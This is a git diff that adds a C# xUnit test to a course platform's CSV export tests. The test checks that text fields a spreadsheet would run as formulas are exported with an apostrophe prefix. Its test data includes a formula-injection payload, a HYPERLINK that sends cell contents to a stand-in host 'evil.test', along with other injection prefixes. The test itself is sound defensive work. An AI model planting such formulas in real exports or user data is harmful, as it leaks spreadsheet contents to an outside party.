@@ -1,6 +1,8 @@
 using System.Net;
 using System.Text;
+using CourseHub.Api.Infrastructure;
 using CourseHub.Domain.Community;
+using CourseHub.Domain.Identity;
 using CourseHub.Tests.Infrastructure;
 using CourseHub.Tests.Teaching;
 
@@ -47,6 +49,52 @@ public sealed class CsvExportTests(SystemFixture system)
         Assert.All(courses.Skip(1), row => Assert.Equal("Published", row[Array.IndexOf(courses[0], "status")]));
         var moderation = await CsvAsync(admin, "/api/admin/moderation?status=open&format=csv");
         Assert.Equal("id", moderation[0][0]);
+    }
+
+    [Fact]
+    public async Task Fields_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_numbers_stay_numbers()
+    {
+        var marker = "csvguard-" + Guid.NewGuid().ToString("N")[..8];
+        const string Formula = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Open\")";
+        string[] names = [Formula, "+1+2", "-3+4", "@SUM(1,2)", "\tTabbed", "\rReturned", "Plain = fine"];
+        await using (var db = system.CreateDbContext())
+        {
+            db.Users.AddRange(names.Select((name, i) =>
+            {
+                var email = $"{marker}-{i}@example.test";
+                return new AppUser
+                {
+                    Id = Guid.CreateVersion7(), UserName = email, NormalizedUserName = email.ToUpperInvariant(), Email = email,
+                    NormalizedEmail = email.ToUpperInvariant(), EmailConfirmed = true, DisplayName = name, CreatedAt = AnalyticsHistory.At(AnalyticsHistory.D2, 6),
+                    SecurityStamp = Guid.NewGuid().ToString("N"),
+                };
+            }));
+            await db.SaveChangesAsync();
+        }
+        using var teacher = await system.SignUpAsync("Teacher", "csvguard");
+        var created = await teacher.OkJsonAsync(HttpMethod.Post, "/api/teach/courses", new
+        {
+            title = Formula, subtitle = "Formula title", description = "A course whose title is a formula.", categorySlug = "programming",
+            level = "Beginner", language = "en", priceMinor = 4200, currency = "USD", learningOutcomes = new[] { "Nothing" }, requirements = Array.Empty<string>(),
+        }, HttpStatusCode.Created);
+        var courseId = created.GetProperty("id").GetGuid();
+        using var admin = await system.AdminAsync();
+
+        var users = await CsvAsync(admin, $"/api/admin/users?search={marker}&format=csv");
+        var displayName = Array.IndexOf(users[0], "displayName");
+        // Ordered by email, so the rows are in the order of the names.
+        Assert.Equal(names.Select(name => name == "Plain = fine" ? name : "'" + name), users.Skip(1).Select(row => row[displayName]));
+        Assert.All(users.Skip(1), row => Assert.Equal("true", row[Array.IndexOf(users[0], "emailConfirmed")]));
+
+        var courses = await CsvAsync(admin, "/api/admin/courses?status=Draft&format=csv");
+        var course = Assert.Single(courses.Skip(1), row => row[0] == courseId.ToString());
+        Assert.Equal("'" + Formula, course[Array.IndexOf(courses[0], "title")]);
+        Assert.Equal("4200", course[Array.IndexOf(courses[0], "priceMinor")]);
+        Assert.Equal("0", course[Array.IndexOf(courses[0], "enrollments")]);
+        // A negative number is a number, not a formula: only text is guarded.
+        Assert.Equal("-5", CsvWriter.Format(-5L));
+        Assert.Equal("-1.5", CsvWriter.Format(-1.5m));
+        Assert.Equal("'-5", CsvWriter.Format("-5"));
     }
 
     private static async Task<List<string[]>> CsvAsync(StudioUser admin, string path)
